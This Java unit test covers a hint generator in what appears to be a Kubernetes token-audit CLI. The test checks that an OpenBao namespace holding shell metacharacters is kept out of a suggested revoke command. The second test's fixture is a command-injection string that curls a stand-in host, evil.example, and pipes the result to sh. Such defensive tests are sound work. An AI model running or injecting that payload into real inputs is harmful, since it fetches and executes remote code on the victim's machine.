package io.mcpctl.cli.audit;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class RevokeOrphansHintTest {

  private static final TokenAuditReport.Backend BACKEND =
      new TokenAuditReport.Backend("team-a", "bao");

  @Test
  void aSpecAShellTakesAsWrittenIsRepeatedAsACommand() {
    assertThat(
            RevokeOrphansHint.of(
                BACKEND,
                new TokenAuditReport.OpenBao(
                    "https://bao.example:8200", "platform/team-a", "shared-rotator")))
        .isEqualTo(
            " with 'kubectl mcpctl audit tokens bao -n team-a --url https://bao.example:8200"
                + " --openbao-namespace platform/team-a --revoke-orphans --role shared-rotator'");
  }

  @Test
  void anOpenBaoNamespaceAShellWouldActOnIsNotRepeated() {
    String hostile = "x$(curl${IFS}evil.example|sh)";

    String hint =
        RevokeOrphansHint.of(
            BACKEND,
            new TokenAuditReport.OpenBao("https://bao.example:8200", hostile, "shared-rotator"));

    assertThat(hint)
        .doesNotContain(hostile)
        .isEqualTo(
            " with 'kubectl mcpctl audit tokens bao -n team-a --revoke-orphans' and this audit's"
                + " --url, --openbao-namespace and --role (not repeated here: the backend's spec"
                + " holds characters a shell would act on)");
  }
}
